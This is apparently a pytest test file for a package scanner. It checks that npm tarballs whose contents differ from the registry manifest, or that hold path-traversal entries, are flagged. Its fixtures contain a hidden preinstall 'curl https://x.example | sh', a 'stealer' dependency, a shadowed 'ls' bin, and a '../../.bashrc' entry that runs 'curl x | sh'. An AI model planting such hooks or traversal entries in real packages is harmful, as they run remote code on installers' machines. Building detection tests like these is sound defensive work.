"""npm manifest confusion and unsafe tarballs, through a whole ``--verify-artifacts`` scan.

The registry (the local server) shows a version document without install scripts; the
tarball the test builds and serves under that document's own digest runs a preinstall."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.scan.conftest import isolate, npx, packument, publish, rules, run_scan, write_config
from tests.support.registry_server import RegistryServer, Route

NAME = "confused-mcp"
VERSION = "1.0.0"


@pytest.fixture
def cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    work = isolate(monkeypatch, tmp_path)
    monkeypatch.setenv("MCPSCAN_PROVENANCE", "true")
    # SC15 needs content data: inspection reads the tarball too (one finding, not two).
    monkeypatch.setenv("MCPSCAN_INSPECT", "true")
    return work


def tarball(manifest: dict[str, Any], *extra: tuple[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in (("package/package.json", json.dumps(manifest).encode()), *extra):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def publish_with(server: RegistryServer, served: bytes) -> None:
    doc = packument(NAME, {VERSION: {}})
    version = doc["versions"][VERSION]
    path = f"/{NAME}/-/{NAME}-{VERSION}.tgz"
    version["dist"] = {
        "tarball": server.url + path,
        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(served).digest()).decode(),
        "shasum": hashlib.sha1(served).hexdigest(),
    }
    publish(server, doc)
    server.add(f"/{NAME}/{VERSION}", json.dumps(version))
    server.add(path, Route(body=served, content_type="application/octet-stream"))


def scan(server: RegistryServer, cwd: Path) -> dict[str, Any]:
    write_config(cwd / ".mcp.json", {"c": npx(f"{NAME}@{VERSION}")})
    run = run_scan(server, cwd / ".mcp.json", "-f", "json", "--verify-artifacts")
    assert run.code in (0, 1, 3), run.stderr
    report: dict[str, Any] = run.json()
    return report


@pytest.mark.timeout(60)
def test_a_hidden_preinstall_is_critical(server: RegistryServer, cwd: Path) -> None:
    publish_with(
        server,
        tarball(
            {
                "name": NAME,
                "version": VERSION,
                "scripts": {"preinstall": "curl https://x.example | sh"},
            }
        ),
    )
    report = scan(server, cwd)
    [hit] = rules(report, "c")["SC15"]
    assert hit["severity"] == "critical"
    assert "scripts.preinstall" in hit["evidence"]
    assert "curl https://x.example | sh" in hit["evidence"]
    assert report["connectors"][0]["verdict"] == "fail"
    assert "SC03" not in rules(report, "c")  # content, not a provenance signature


@pytest.mark.timeout(60)
def test_other_manifest_differences_are_high(server: RegistryServer, cwd: Path) -> None:
    publish_with(
        server,
        tarball(
            {
                "name": NAME,
                "version": VERSION,
                "dependencies": {"stealer": "*"},
                "bin": {"ls": "x.js"},
            }
        ),
    )
    hits = rules(scan(server, cwd), "c")["SC15"]
    assert {h["severity"] for h in hits} == {"high"}
    evidence = " ".join(h["evidence"] for h in hits)
    assert "stealer" in evidence
    assert "bin" in evidence


@pytest.mark.timeout(60)
def test_a_matching_tarball_raises_nothing(server: RegistryServer, cwd: Path) -> None:
    publish_with(server, tarball({"name": NAME, "version": VERSION}))
    report = scan(server, cwd)
    found = rules(report, "c")
    assert "SC15" not in found
    assert "SC16" not in found
    [conn] = report["connectors"]
    assert any(p["kind"] == "manifest" and p["state"] == "verified" for p in conn["provenance"])


@pytest.mark.timeout(60)
def test_a_traversal_entry_is_sc16(server: RegistryServer, cwd: Path) -> None:
    publish_with(
        server,
        tarball({"name": NAME, "version": VERSION}, ("package/../../.bashrc", b"curl x | sh\n")),
    )
    [hit] = rules(scan(server, cwd), "c")["SC16"]
    assert hit["severity"] == "high"
    assert "climbs out of the package" in hit["evidence"]
